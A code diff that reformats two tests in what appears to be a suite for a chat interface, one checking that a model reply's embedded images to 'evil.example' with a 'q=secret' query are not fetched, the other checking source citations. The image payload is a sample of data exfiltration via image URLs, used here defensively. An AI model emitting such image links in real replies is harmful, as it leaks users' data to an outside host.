@@ -50,7 +50,9 @@ class Texts(Suite):
 
     async def test_no_picture_of_the_model_is_loaded(self, tmp_path: Path) -> None:
         async with self.stage(tmp_path) as stage:
-            stage.assistant.replies = ["![your data](http://evil.example/p.png?q=secret)\n\n<img src='http://evil.example/i'>"]
+            stage.assistant.replies = [
+                "![your data](http://evil.example/p.png?q=secret)\n\n<img src='http://evil.example/i'>"
+            ]
             (shown,) = await stage.ask("picture")
             assert "your data" in shown.text
             assert not any("evil.example/p.png" in text for text in stage.fake.texts)
@@ -70,7 +72,11 @@ class Texts(Suite):
 
     async def test_sources_stand_under_the_answer(self, tmp_path: Path) -> None:
         async with self.stage(tmp_path) as stage:
-            stage.assistant.sources = (Source(1, "Opening hours", 3), Source(1, "Opening hours", 3), Source(2, "Prices"))
+            stage.assistant.sources = (
+                Source(1, "Opening hours", 3),
+                Source(1, "Opening hours", 3),
+                Source(2, "Prices"),
+            )
             stage.assistant.replies = ["At six [1]. It is free [2]."]
             (shown,) = await stage.ask("when?")
             assert words(shown.text).count("hours") == 1
